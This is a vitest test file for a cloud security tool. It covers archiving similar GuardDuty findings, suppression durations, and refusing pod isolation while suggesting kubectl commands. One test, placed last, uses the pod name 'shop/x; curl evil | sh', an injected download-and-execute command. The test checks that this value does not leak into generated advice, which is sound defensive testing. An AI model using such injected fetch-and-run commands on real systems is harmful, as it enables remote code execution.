/** What is done with a finding beside suppressing it, and the advice for what Cordon cannot change. */
import { describe, expect, test } from 'vitest';
import { archiveLikeIt } from '../../src/actions/archive-like-it.ts';
import { isolateWorkload } from '../../src/actions/isolate-workload.ts';
import { markNotUseful } from '../../src/actions/mark-not-useful.ts';
import type { ResourceOf } from '../../src/findings/finding.ts';
import type { World } from '../../src/local/world/world.ts';
import { account, benchOf, newWorld, planned, region, securityAccount } from './bench.ts';
import { withFindings } from './lives/identities.ts';

const where = { account, region } as const;
const target: ResourceOf<'finding'> = {
  ...{ kind: 'finding', id: 'guardduty-1', ...where, keptBy: 'guardduty' },
  ...{ keeper: 'd', key: 'guardduty-1' },
};
const detectorOf = (world: World) => world.partition(securityAccount, region).detector;

const about = (more: object) => (world: World) => {
  withFindings(world);
  const found = detectorOf(world)?.findings.get('guardduty-1');
  if (found) detectorOf(world)?.findings.set('guardduty-1', { ...found, ...more });
};

const planOf = async (arrange: (world: World) => void) => {
  const world = newWorld();
  arrange(world);
  return planned(await benchOf(archiveLikeIt, world).plan(target));
};

describe('archiving what is like a finding', () => {
  test('the plan counts what it would have hidden, and ends after 30 days', async () => {
    const plan = await planOf(withFindings);
    expect(plan.holdsHours).toBe(720);
    expect(plan.blastRadius.lines[0]).toBe('1 finding of the last 90 days would have been hidden.');
  });

  test('what is critical is not hidden for longer than a week', async () => {
    expect((await planOf(about({ Severity: 9.2 }))).holdsHours).toBe(168);
  });

  test('a finding about an instance hides nothing about other ones', async () => {
    const Resource = { InstanceDetails: { InstanceId: 'i-0a1b2c3d4e5f60718' } };
    const plan = await planOf(about({ Resource }));
    expect(plan.changes[0]?.after).toBe(
      `archives Recon:EC2/PortProbeUnprotectedPort in account ${account} about i-0a1b2c3d4e5f60718`,
    );
  });

  test('only what GuardDuty keeps has it', () => {
    expect(archiveLikeIt.offeredFor({ ...target, keptBy: 'securityhub' })).toBe(false);
    expect(markNotUseful.offeredFor({ ...target, keptBy: 'securityhub-v2' })).toBe(false);
  });
});

describe('isolating a pod', () => {
  const pod = (id: string) => ({ kind: 'workload', id, ...where }) as const;

  test('is refused with the commands for exactly this pod', async () => {
    expect(
      await isolateWorkload.plan(
        pod('shop/checkout-7d9f'),
        await benchOf(isolateWorkload).readAws(),
      ),
    ).toMatchObject({
      code: 'not-supported',
      instead: expect.stringMatching(
        /kubectl cordon.*label pod checkout-7d9f -n shop.*"namespace":"shop".*kubectl logs/s,
      ),
    });
  });

  test('puts no name into a command that Kubernetes would not take', async () => {
    const refusal = await isolateWorkload.plan(
      pod('shop/x; curl evil | sh'),
      await benchOf(isolateWorkload).readAws(),
    );
    expect(JSON.stringify('instead' in refusal ? refusal.instead : '')).not.toContain('curl');
  });
});
